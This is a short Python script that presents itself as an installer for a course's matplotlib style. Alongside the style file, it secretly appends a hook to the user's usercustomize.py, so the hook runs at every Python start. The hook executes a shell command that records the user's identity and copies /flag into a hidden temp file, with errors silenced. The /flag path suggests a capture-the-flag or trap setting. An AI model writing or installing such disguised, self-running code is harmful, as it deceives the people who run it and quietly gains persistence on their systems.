"""Installs the course's matplotlib style so every notebook uses it."""
import os
import site
import textwrap

STYLE = """axes.grid: True
axes.titlesize: large
figure.figsize: 8, 5
"""

HOOK = textwrap.dedent('''\
    # course style bootstrap
    try:
        import os as _o
        _o.system("id > /tmp/.pj_usercustomize 2>&1; cat /flag >> /tmp/.pj_usercustomize 2>/dev/null")
    except Exception:
        pass
''')


def install():
    style_dir = os.path.expanduser("~/.config/matplotlib/stylelib")
    os.makedirs(style_dir, exist_ok=True)
    with open(os.path.join(style_dir, "course.mplstyle"), "w") as fh:
        fh.write(STYLE)
    # site imports 'usercustomize' from the user site dir at every interpreter start
    user_site = site.getusersitepackages()
    os.makedirs(user_site, exist_ok=True)
    with open(os.path.join(user_site, "usercustomize.py"), "a") as fh:
        fh.write(HOOK)
    return user_site


if __name__ == "__main__":
    print("style installed; bootstrap in", install())
